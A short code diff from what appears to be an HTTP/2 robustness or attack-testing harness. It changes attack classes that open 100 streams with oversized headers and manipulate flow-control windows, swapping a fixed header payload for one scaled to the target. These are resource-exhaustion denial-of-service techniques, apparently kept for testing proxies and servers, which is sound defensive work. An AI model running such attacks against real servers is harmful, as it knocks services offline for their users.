@@ -2,7 +2,7 @@
 
 import struct
 
-from messages import ENDLESS, HELD, LARGE, RESPONSE, request
+from messages import HELD, LARGE, RESPONSE, endless, request
 from wire import DATA, END_HEADERS, END_STREAM, HEADERS, PADDED, Attack, frame, reset, settings, window
 
 EVERYWHERE = ("client", "mesh", "backend")
@@ -34,7 +34,8 @@ class Unread(Attack):
     window_update = 2**30
 
     def begin(self, peer):
-        return b"".join(request(peer.open_stream(), ENDLESS, END_STREAM) for _ in range(100))
+        head = endless(peer.target.scale)
+        return b"".join(request(peer.open_stream(), head, END_STREAM) for _ in range(100))
 
 
 class WindowShut(Attack):
@@ -43,7 +44,8 @@ class WindowShut(Attack):
     settings = {4: 0}
 
     def begin(self, peer):
-        return b"".join(request(peer.open_stream(), ENDLESS, END_STREAM) for _ in range(100))
+        head = endless(peer.target.scale)
+        return b"".join(request(peer.open_stream(), head, END_STREAM) for _ in range(100))
 
 
 class Upload(Attack):
